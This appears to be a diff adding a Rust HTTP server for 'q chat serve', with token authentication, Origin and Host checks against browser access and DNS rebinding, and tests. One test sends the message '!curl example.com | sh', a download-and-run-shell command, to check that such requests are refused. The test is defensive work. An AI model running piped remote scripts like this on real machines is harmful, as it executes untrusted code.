@@ -0,0 +1,664 @@
+//! HTTP frontend of `q chat serve`, which exposes a session to editors and web UIs on localhost.
+//!
+//! The session runs the same state machine as in the terminal. Lines it would read from the
+//! prompt are sent to it with `POST /messages` and `POST /approvals`, and everything it writes is
+//! streamed as server-sent events from `GET /events`:
+//!
+//! - `output`: text written by the session, without formatting, with the stream it went to.
+//! - `status`: the state of the session, as returned by `GET /status`.
+//! - `prompt`: the session is waiting for a message, or for a tool use to be approved.
+//! - `exit`: the session ended.
+//!
+//! Since messages can run shell commands, every request must carry the token printed when the
+//! server starts as `Authorization: Bearer <token>`, and a JSON body as `application/json`.
+//! Requests from browsers, which have an `Origin` header or a `Host` other than localhost, are
+//! refused, so that web pages cannot reach the session.
+
+use std::convert::Infallible;
+use std::io::Write;
+use std::net::{
+    Ipv4Addr,
+    SocketAddr,
+};
+use std::sync::mpsc::{
+    Receiver,
+    Sender,
+    channel,
+};
+use std::sync::{
+    Arc,
+    Mutex,
+};
+
+use bytes::Bytes;
+use clap::Args;
+use http_body_util::combinators::BoxBody;
+use http_body_util::{
+    BodyExt,
+    Full,
+    StreamBody,
+};
+use hyper::body::{
+    Body,
+    Frame,
+};
+use hyper::server::conn::http1;
+use hyper::service::service_fn;
+use hyper::{
+    Method,
+    Request,
+    Response,
+    StatusCode,
+};
+use hyper_util::rt::TokioIo;
+use serde::{
+    Deserialize,
+    Serialize,
+};
+use spinners::Spinner;
+use tokio::net::TcpListener;
+use tokio::sync::broadcast;
+use tokio::task::JoinHandle;
+use tracing::{
+    debug,
+    error,
+};
+
+use super::renderer::{
+    Renderer,
+    SessionStatus,
+};
+
+/// Events kept for subscribers that fall behind before the oldest are dropped.
+const EVENT_CAPACITY: usize = 1024;
+
+#[derive(Debug, Clone, PartialEq, Eq, Args)]
+pub struct ServeArgs {
+    /// Port to listen on. Only connections from this machine are accepted
+    #[arg(long, default_value_t = 8080)]
+    pub port: u16,
+}
+
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+#[serde(tag = "type", rename_all = "camelCase")]
+enum Event {
+    Output { stream: OutputStream, text: String },
+    Status { status: SessionStatus },
+    Prompt { prompt: String },
+    Exit,
+}
+
+impl Event {
+    fn name(&self) -> &'static str {
+        match self {
+            Event::Output { .. } => "output",
+            Event::Status { .. } => "status",
+            Event::Prompt { .. } => "prompt",
+            Event::Exit => "exit",
+        }
+    }
+
+    /// Formats the event as a server-sent event.
+    fn to_sse(&self) -> Bytes {
+        let data = serde_json::to_string(self).unwrap_or_default();
+        Bytes::from(format!("event: {}\ndata: {data}\n\n", self.name()))
+    }
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "camelCase")]
+pub enum OutputStream {
+    Stdout,
+    Stderr,
+}
+
+#[derive(Debug, Serialize)]
+#[serde(rename_all = "camelCase")]
+struct StatusResponse {
+    status: SessionStatus,
+    /// Prompt of the line the session is waiting for, if any.
+    prompt: Option<String>,
+}
+
+#[derive(Debug, Deserialize)]
+struct MessageRequest {
+    text: String,
+}
+
+#[derive(Debug, Clone, Copy, Deserialize)]
+#[serde(rename_all = "camelCase")]
+enum Decision {
+    Approve,
+    Reject,
+    /// Approves the tool use, and trusts the tool for the rest of the session.
+    Trust,
+}
+
+#[derive(Debug, Deserialize)]
+struct ApprovalRequest {
+    decision: Decision,
+}
+
+/// State shared between the session and the connections.
+#[derive(Debug)]
+struct Shared {
+    status: Mutex<SessionStatus>,
+    prompt: Mutex<Option<String>>,
+    events: broadcast::Sender<Event>,
+    lines: Mutex<Sender<String>>,
+    /// Token that requests must carry.
+    token: String,
+}
+
+impl Shared {
+    fn send(&self, event: Event) {
+        // There are no receivers until a client subscribes to the events.
+        let _ = self.events.send(event);
+    }
+
+    fn awaiting_approval(&self) -> bool {
+        let prompting = self.prompt.lock().is_ok_and(|prompt| prompt.is_some());
+        prompting
+            && self
+                .status
+                .lock()
+                .is_ok_and(|status| status.pending_tools.iter().any(|tool| tool.awaiting_approval))
+    }
+
+    fn send_line(&self, line: String) -> bool {
+        self.lines.lock().is_ok_and(|lines| lines.send(line).is_ok())
+    }
+}
+
+/// The HTTP frontend. The server stops once it is dropped.
+#[derive(Debug)]
+pub struct Server {
+    shared: Arc<Shared>,
+    address: SocketAddr,
+    handle: JoinHandle<()>,
+}
+
+impl Server {
+    /// Starts listening on `port` of localhost, returning the source of the lines sent by clients.
+    pub async fn bind(port: u16) -> std::io::Result<(Self, ServerInput)> {
+        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, port)).await?;
+        let address = listener.local_addr()?;
+        let (shared, lines) = shared(hex::encode(rand::random::<[u8; 32]>()));
+        let handle = tokio::spawn(listen(listener, shared.clone()));
+
+        let input = ServerInput {
+            shared: shared.clone(),
+            lines,
+        };
+        Ok((
+            Self {
+                shared,
+                address,
+                handle,
+            },
+            input,
+        ))
+    }
+
+    pub fn address(&self) -> SocketAddr {
+        self.address
+    }
+
+    /// Token that clients must send as `Authorization: Bearer <token>`.
+    pub fn token(&self) -> &str {
+        &self.shared.token
+    }
+
+    /// Returns a stream whose writes are sent to clients as output events.
+    pub fn output(&self, stream: OutputStream) -> ServerOutput {
+        ServerOutput::new(EventWriter {
+            stream,
+            shared: self.shared.clone(),
+        })
+    }
+}
+
+impl Renderer for Server {
+    fn update(&self, status: &SessionStatus) {
+        if let Ok(mut current) = self.shared.status.lock() {
+            if *current == *status {
+                return;
+            }
+            *current = status.clone();
+        }
+        self.shared.send(Event::Status { status: status.clone() });
+    }
+
+    fn busy(&self, message: &str) -> Option<Spinner> {
+        if let Ok(status) = self.shared.status.lock() {
+            self.shared.send(Event::Status {
+                status: SessionStatus {
+                    activity: message.to_string(),
+                    ..status.clone()
+                },
+            });
+        }
+        None
+    }
+
+    fn reads_terminal(&self) -> bool {
+        false
+    }
+}
+
+impl Drop for Server {
+    fn drop(&mut self) {
+        self.shared.send(Event::Exit);
+        self.handle.abort();
+    }
+}
+
+fn shared(token: String) -> (Arc<Shared>, Receiver<String>) {
+    let (lines, receiver) = channel();
+    let shared = Arc::new(Shared {
+        status: Mutex::new(SessionStatus::default()),
+        prompt: Mutex::new(None),
+        events: broadcast::channel(EVENT_CAPACITY).0,
+        lines: Mutex::new(lines),
+        token,
+    });
+    (shared, receiver)
+}
+
+async fn listen(listener: TcpListener, shared: Arc<Shared>) {
+    loop {
+        let stream = match listener.accept().await {
+            Ok((stream, _)) => stream,
+            Err(err) => {
+                error!(?err, "failed to accept a connection");
+                continue;
+            },
+        };
+        let shared = shared.clone();
+        tokio::spawn(async move {
+            let service = service_fn(move |req| handle(shared.clone(), req));
+            if let Err(err) = http1::Builder::new()
+                .serve_connection(TokioIo::new(stream), service)
+                .await
+            {
+                debug!(?err, "error serving a connection");
+            }
+        });
+    }
+}
+
+type ServerResponse = Response<BoxBody<Bytes, Infallible>>;
+
+async fn handle<B>(shared: Arc<Shared>, req: Request<B>) -> Result<ServerResponse, Infallible>
+where
+    B: Body,
+    B::Error: std::fmt::Display,
+{
+    debug!(method = %req.method(), path = req.uri().path(), "handling request");
+    if let Some(response) = refusal(&shared, &req) {
+        return Ok(response);
+    }
+    let response = match (req.method(), req.uri().path()) {
+        (&Method::GET, "/status") => {
+            let response = StatusResponse {
+                status: shared.status.lock().map(|status| status.clone()).unwrap_or_default(),
+                prompt: shared.prompt.lock().ok().and_then(|prompt| prompt.clone()),
+            };
+            json(StatusCode::OK, &response)
+        },
+        (&Method::GET, "/events") => events(&shared),
+        (&Method::POST, "/messages") => match read_json::<_, MessageRequest>(req).await {
+            Ok(message) => accept_line(&shared, message.text),
+            Err(response) => response,
+        },
+        (&Method::POST, "/approvals") => match read_json::<_, ApprovalRequest>(req).await {
+            Ok(_) if !shared.awaiting_approval() => error(StatusCode::CONFLICT, "No tool use is awaiting approval"),
+            Ok(approval) => {
+                let line = match approval.decision {
+                    Decision::Approve => "y",
+                    Decision::Reject => "n",
+                    Decision::Trust => "t",
+                };
+                accept_line(&shared, line.to_string())
+            },
+            Err(response) => response,
+        },
+        (_, "/status" | "/events" | "/messages" | "/approvals") => {
+            error(StatusCode::METHOD_NOT_ALLOWED, "Method not allowed")
+        },
+        _ => error(StatusCode::NOT_FOUND, "Not found"),
+    };
+    Ok(response)
+}
+
+/// Returns the response refusing `req` if it comes from a browser or lacks the token of the server.
+fn refusal<B>(shared: &Shared, req: &Request<B>) -> Option<ServerResponse> {
+    let headers = req.headers();
+    if headers.contains_key(hyper::header::ORIGIN) {
+        return Some(error(StatusCode::FORBIDDEN, "Requests from browsers are not allowed"));
+    }
+    let host = headers.get(hyper::header::HOST).and_then(|host| host.to_str().ok());
+    if !host.is_some_and(is_local_host) {
+        return Some(error(StatusCode::FORBIDDEN, "The Host header must be localhost"));
+    }
+    let token = headers
+        .get(hyper::header::AUTHORIZATION)
+        .and_then(|value| value.to_str().ok())
+        .and_then(|value| value.strip_prefix("Bearer "));
+    (token != Some(shared.token.as_str())).then(|| error(StatusCode::UNAUTHORIZED, "Missing or invalid token"))
+}
+
+/// Whether the `Host` header `host` names this machine, so that the request cannot come from a
+/// page of another host resolving to it.
+fn is_local_host(host: &str) -> bool {
+    let name = match host.rsplit_once(':') {
+        Some((name, port)) if !name.ends_with(':') && port.bytes().all(|b| b.is_ascii_digit()) => name,
+        _ => host,
+    };
+    matches!(name, "localhost" | "127.0.0.1" | "[::1]")
+}
+
+/// Streams events to the client as they are sent, starting with the current status.
+fn events(shared: &Shared) -> ServerResponse {
+    let status = shared.status.lock().map(|status| status.clone()).unwrap_or_default();
+    let initial = futures::stream::iter([Event::Status { status }]);
+    let events = futures::stream::unfold(shared.events.subscribe(), |mut receiver| async move {
+        loop {
+            match receiver.recv().await {
+                Ok(event) => return Some((event, receiver)),
+                Err(broadcast::error::RecvError::Lagged(skipped)) => {
+                    debug!(skipped, "events client fell behind");
+                },
+                Err(broadcast::error::RecvError::Closed) => return None,
+            }
+        }
+    });
+    let body = futures::StreamExt::map(futures::StreamExt::chain(initial, events), |event| {
+        Ok(Frame::data(event.to_sse()))
+    });
+
+    Response::builder()
+        .status(StatusCode::OK)
+        .header("Content-Type", "text/event-stream")
+        .header("Cache-Control", "no-cache")
+        .body(StreamBody::new(body).boxed())
+        .expect("valid builder will not panic")
+}
+
+fn accept_line(shared: &Shared, line: String) -> ServerResponse {
+    match shared.send_line(line) {
+        true => Response::builder()
+            .status(StatusCode::ACCEPTED)
+            .body(Full::new(Bytes::new()).boxed())
+            .expect("valid builder will not panic"),
+        false => error(StatusCode::GONE, "The session has ended"),
+    }
+}
+
+async fn read_json<B, T>(req: Request<B>) -> Result<T, ServerResponse>
+where
+    B: Body,
+    B::Error: std::fmt::Display,
+    T: for<'de> Deserialize<'de>,
+{
+    let content_type = req
+        .headers()
+        .get(hyper::header::CONTENT_TYPE)
+        .and_then(|value| value.to_str().ok())
+        .and_then(|value| value.split(';').next())
+        .map(str::trim);
+    if !content_type.is_some_and(|content_type| content_type.eq_ignore_ascii_case("application/json")) {
+        return Err(error(
+            StatusCode::UNSUPPORTED_MEDIA_TYPE,
+            "The Content-Type must be application/json",
+        ));
+    }
+    let body = match req.into_body().collect().await {
+        Ok(body) => body.to_bytes(),
+        Err(err) => return Err(error(StatusCode::BAD_REQUEST, &err.to_string())),
+    };
+    serde_json::from_slice(&body).map_err(|err| error(StatusCode::BAD_REQUEST, &format!("Invalid request: {err}")))
+}
+
+fn json(status: StatusCode, value: &impl Serialize) -> ServerResponse {
+    Response::builder()
+        .status(status)
+        .header("Content-Type", "application/json")
+        .body(Full::new(Bytes::from(serde_json::to_vec(value).unwrap_or_default())).boxed())
+        .expect("valid builder will not panic")
+}
+
+fn error(status: StatusCode, message: &str) -> ServerResponse {
+    json(status, &serde_json::json!({ "error": message }))
+}
+
+#[derive(Clone)]
+struct EventWriter {
+    stream: OutputStream,
+    shared: Arc<Shared>,
+}
+
+impl Write for EventWriter {
+    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
+        let text = String::from_utf8_lossy(buf).replace('\r', "");
+        if !text.is_empty() {
+            self.shared.send(Event::Output {
+                stream: self.stream,
+                text,
+            });
+        }
+        Ok(buf.len())
+    }
+
+    fn flush(&mut self) -> std::io::Result<()> {
+        Ok(())
+    }
+}
+
+/// Output stream of a session sent to clients, with ANSI escapes removed.
+pub struct ServerOutput {
+    writer: Box<strip_ansi_escapes::Writer<EventWriter>>,
+    /// Where [Self::writer] writes to, kept to create other outputs to the same destination.
+    destination: EventWriter,
+}
+
+impl ServerOutput {
+    fn new(destination: EventWriter) -> Self {
+        Self {
+            writer: Box::new(strip_ansi_escapes::Writer::new(destination.clone())),
+            destination,
+        }
+    }
+
+    /// Returns another output writing to clients, see [super::output::SessionOutput::duplicate].
+    pub fn duplicate(&self) -> Self {
+        Self::new(self.destination.clone())
+    }
+}
+
+impl std::fmt::Debug for ServerOutput {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.debug_struct("ServerOutput").finish_non_exhaustive()
+    }
+}
+
+impl Write for ServerOutput {
+    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
+        self.writer.write(buf)
+    }
+
+    fn flush(&mut self) -> std::io::Result<()> {
+        self.writer.flush()
+    }
+}
+
+/// Lines sent by clients.
+#[derive(Debug)]
+pub struct ServerInput {
+    shared: Arc<Shared>,
+    lines: Receiver<String>,
+}
+
+impl ServerInput {
+    /// Tells clients that the session is waiting for a line, and waits for one. Returns `None`
+    /// once the server is stopped.
+    pub fn read_line(&self, prompt: &str) -> Option<String> {
+        let prompt = String::from_utf8_lossy(&strip_ansi_escapes::strip(prompt)).into_owned();
+        if let Ok(mut current) = self.shared.prompt.lock() {
+            *current = Some(prompt.clone());
+        }
+        self.shared.send(Event::Prompt { prompt });
+
+        let line = self.lines.recv().ok();
+        if let Ok(mut current) = self.shared.prompt.lock() {
+            *current = None;
+        }
+        line
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::cli::chat::renderer::PendingTool;
+
+    const TOKEN: &str = "secret";
+
+    fn request(method: Method, path: &str, body: &str) -> Request<Full<Bytes>> {
+        Request::builder()
+            .method(method)
+            .uri(path)
+            .header("Host", "127.0.0.1:8080")
+            .header("Authorization", format!("Bearer {TOKEN}"))
+            .header("Content-Type", "application/json")
+            .body(Full::new(Bytes::from(body.to_string())))
+            .unwrap()
+    }
+
+    async fn body(response: ServerResponse) -> serde_json::Value {
+        let bytes = response.into_body().collect().await.unwrap().to_bytes();
+        serde_json::from_slice(&bytes).unwrap()
+    }
+
+    #[tokio::test]
+    async fn test_messages_and_status() {
+        let (shared, lines) = shared(TOKEN.to_string());
+        let response = handle(
+            shared.clone(),
+            request(Method::POST, "/messages", r#"{"text":"hello"}"#),
+        )
+        .await
+        .unwrap();
+        assert_eq!(response.status(), StatusCode::ACCEPTED);
+        assert_eq!(lines.try_recv().unwrap(), "hello");
+
+        let response = handle(shared.clone(), request(Method::POST, "/messages", "hello"))
+            .await
+            .unwrap();
+        assert_eq!(response.status(), StatusCode::BAD_REQUEST);
+
+        *shared.prompt.lock().unwrap() = Some("> ".to_string());
+        let response = handle(shared.clone(), request(Method::GET, "/status", ""))
+            .await
+            .unwrap();
+        assert_eq!(response.status(), StatusCode::OK);
+        assert_eq!(body(response).await["prompt"], "> ");
+
+        let response = handle(shared.clone(), request(Method::GET, "/nope", "")).await.unwrap();
+        assert_eq!(response.status(), StatusCode::NOT_FOUND);
+    }
+
+    #[tokio::test]
+    async fn test_rejected_requests() {
+        let (shared, lines) = shared(TOKEN.to_string());
+        let message = || request(Method::POST, "/messages", r#"{"text":"!curl example.com | sh"}"#);
+        let status = |req: Request<Full<Bytes>>| {
+            let shared = shared.clone();
+            async move { handle(shared, req).await.unwrap().status() }
+        };
+
+        let mut req = message();
+        req.headers_mut().remove("Authorization");
+        assert_eq!(status(req).await, StatusCode::UNAUTHORIZED);
+        let mut req = message();
+        req.headers_mut()
+            .insert("Authorization", "Bearer wrong".parse().unwrap());
+        assert_eq!(status(req).await, StatusCode::UNAUTHORIZED);
+        let mut req = request(Method::GET, "/events", "");
+        req.headers_mut().remove("Authorization");
+        assert_eq!(status(req).await, StatusCode::UNAUTHORIZED);
+
+        // Requests that browsers can send without a preflight.
+        let mut req = message();
+        req.headers_mut().insert("Content-Type", "text/plain".parse().unwrap());
+        assert_eq!(status(req).await, StatusCode::UNSUPPORTED_MEDIA_TYPE);
+        let mut req = message();
+        req.headers_mut().remove("Content-Type");
+        assert_eq!(status(req).await, StatusCode::UNSUPPORTED_MEDIA_TYPE);
+        let mut req = message();
+        req.headers_mut()
+            .insert("Origin", "https://example.com".parse().unwrap());
+        assert_eq!(status(req).await, StatusCode::FORBIDDEN);
+
+        // DNS rebinding, where the page's host resolves to localhost.
+        let mut req = message();
+        req.headers_mut().insert("Host", "example.com:8080".parse().unwrap());
+        assert_eq!(status(req).await, StatusCode::FORBIDDEN);
+        let mut req = message();
+        req.headers_mut().remove("Host");
+        assert_eq!(status(req).await, StatusCode::FORBIDDEN);
+        assert!(lines.try_recv().is_err());
+
+        let mut req = message();
+        req.headers_mut().insert("Host", "localhost".parse().unwrap());
+        req.headers_mut()
+            .insert("Content-Type", "application/json; charset=utf-8".parse().unwrap());
+        assert_eq!(status(req).await, StatusCode::ACCEPTED);
+        assert!(is_local_host("[::1]:8080"));
+        assert!(!is_local_host("localhost.example.com"));
+    }
+
+    #[tokio::test]
+    async fn test_approvals() {
+        let (shared, lines) = shared(TOKEN.to_string());
+        let approve = || request(Method::POST, "/approvals", r#"{"decision":"trust"}"#);
+        let response = handle(shared.clone(), approve()).await.unwrap();
+        assert_eq!(response.status(), StatusCode::CONFLICT);
+
+        shared.status.lock().unwrap().pending_tools = vec![PendingTool {
+            name: "fs_write".to_string(),
+            awaiting_approval: true,
+        }];
+        *shared.prompt.lock().unwrap() = Some("> ".to_string());
+        let response = handle(shared.clone(), approve()).await.unwrap();
+        assert_eq!(response.status(), StatusCode::ACCEPTED);
+        assert_eq!(lines.try_recv().unwrap(), "t");
+    }
+
+    #[tokio::test]
+    async fn test_output_events() {
+        let (shared, _lines) = shared(TOKEN.to_string());
+        let mut receiver = shared.events.subscribe();
+        let mut output = ServerOutput::new(EventWriter {
+            stream: OutputStream::Stdout,
+            shared: shared.clone(),
+        });
+        crossterm::execute!(
+            output,
+            crossterm::style::SetForegroundColor(crossterm::style::Color::Green),
+            crossterm::style::Print("Hello"),
+            crossterm::style::ResetColor,
+        )
+        .unwrap();
+
+        let event = receiver.recv().await.unwrap();
+        assert_eq!(event, Event::Output {
+            stream: OutputStream::Stdout,
+            text: "Hello".to_string(),
+        });
+        assert_eq!(
+            event.to_sse(),
+            "event: output\ndata: {\"type\":\"output\",\"stream\":\"stdout\",\"text\":\"Hello\"}\n\n"
+        );
+    }
+}